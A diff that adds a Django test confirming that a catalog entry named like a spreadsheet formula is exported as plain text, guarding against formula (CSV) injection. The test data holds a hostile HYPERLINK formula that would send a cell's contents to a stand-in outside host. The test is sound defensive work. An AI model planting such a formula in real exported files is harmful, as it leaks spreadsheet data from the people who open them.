@@ -93,3 +93,15 @@ def test_export_query_count_does_not_grow_with_the_entries(django_assert_max_num
     out = io.BytesIO()
     with django_assert_max_num_queries(6):  # type: ignore[operator]
         assert catalog_export(entries=entries_published(), out=out) == 30
+
+
+def test_an_entry_named_like_a_formula_is_exported_as_text() -> None:
+    """A name or 信息项 starting with "=" reads back as that text, never as a live formula (CSV injection)."""
+    hostile = '=HYPERLINK("http://x/?"&A1,"点此")'
+    items = (ItemFields(name=hostile, data_type="C", length=10),)
+    catalog_services.entry_create(fields=b.fields(name=hostile, items=items), actor=b.clerk_actor())
+    buffer = io.BytesIO()
+    catalog_export(entries=CatalogEntry.objects.all(), out=buffer)
+    book = load_workbook(io.BytesIO(buffer.getvalue()))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value == hostile]
+    assert len(cells) == 3 and {cell.data_type for cell in cells} == {"s"}  # name twice, the 信息项 once
